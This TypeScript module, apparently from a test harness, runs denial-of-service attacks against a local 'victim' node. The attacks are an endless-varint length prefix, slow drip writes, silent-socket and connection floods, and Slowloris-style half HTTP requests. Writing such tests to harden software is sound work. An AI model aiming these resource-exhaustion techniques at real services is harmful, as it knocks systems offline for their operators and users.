/** Attacks before authentication, on plain sockets. */

import { connect } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import { ATTACKERS } from './hostile-node.ts'
import { atRate, inLanes } from './repeat.ts'
import type { Socket } from 'node:net'
import type { Rate } from './repeat.ts'

/** Longest wait for the victim to close a socket, in milliseconds. */
const CLOSE_MS = 30_000

/** What a socket costs that says nothing: a SYN, in bytes. */
const SOCKET_BYTES = 60

/** Eight times 0x80, and then zeros: a decoder that looks at eight bytes asks for more each time. */
export function endlessLength(bytes: number): Buffer {
  return Buffer.concat([Buffer.alloc(8, 0x80), Buffer.alloc(Math.max(0, bytes - 8))])
}

async function open(port: number): Promise<Socket> {
  const socket = connect({ port, host: '127.0.0.1', localAddress: ATTACKERS })
  socket.on('error', () => {}) // the victim resets what it does not like
  socket.resume()
  await new Promise<void>(resolve => socket.once('connect', resolve).once('close', () => resolve()))
  return socket
}

async function closed(socket: Socket): Promise<void> {
  if (!socket.destroyed) await new Promise<void>(resolve => socket.once('close', () => resolve()))
}

/** One length that does not end. Resolves with the bytes sent when the victim has closed the socket, or read all of them. */
export async function sendLength({ port, bytes }: { port: number; bytes: number }): Promise<number> {
  const socket = await open(port)
  socket.end(endlessLength(bytes))
  await Promise.race([closed(socket), pause(CLOSE_MS)])
  socket.destroy()
  return bytes
}

/** The same, slowly, on one socket after the other as the victim closes them. */
export async function drip({
  port,
  kibPerSecond,
  seconds,
}: {
  port: number
  kibPerSecond: number
  seconds: number
}): Promise<number> {
  const endsAt = performance.now() + seconds * 1000
  let bytes = 0
  await inLanes({ count: 1, seconds, pauseMs: 50 }, async () => {
    const socket = await open(port)
    for (let first = true; !socket.destroyed && performance.now() < endsAt; first = false) {
      const piece = first ? endlessLength(102 * kibPerSecond) : Buffer.alloc(102 * kibPerSecond)
      bytes += piece.byteLength
      socket.write(piece)
      await pause(100)
    }
    socket.destroy()
  })
  return bytes
}

/** Sockets that say nothing, or a few bytes, for some time. Those that the victim closes are opened again. */
export async function silentSockets({
  port,
  count,
  seconds,
  text = '',
}: {
  port: number
  count: number
  seconds: number
  text?: string
}): Promise<number> {
  const sockets = new Set<Socket>()
  let sent = 0
  await inLanes({ count, seconds, pauseMs: 250 }, async () => {
    const socket = await open(port)
    sockets.add(socket)
    sent += SOCKET_BYTES + text.length
    if (text !== '' && !socket.destroyed) socket.write(text)
    await closed(socket)
    sockets.delete(socket)
  })
  for (const socket of sockets) socket.destroy()
  return sent
}

/** The same with half a head of HTTP. */
export async function halfRequests(order: { port: number; count: number; seconds: number }): Promise<number> {
  return silentSockets({ ...order, text: 'GET / HTTP/1.1\r\nHost: x\r\n' })
}

/** Sockets that say nothing, at a rate. They stay as long as the victim lets them, and end with the attack. */
export async function newSockets({ port, ...rate }: { port: number } & Rate): Promise<number> {
  const sockets = new Set<Socket>()
  const opened = await atRate(rate, async () => {
    const socket = await open(port)
    sockets.add(socket)
    await closed(socket)
    sockets.delete(socket)
  })
  for (const socket of sockets) socket.destroy()
  return opened * SOCKET_BYTES
}
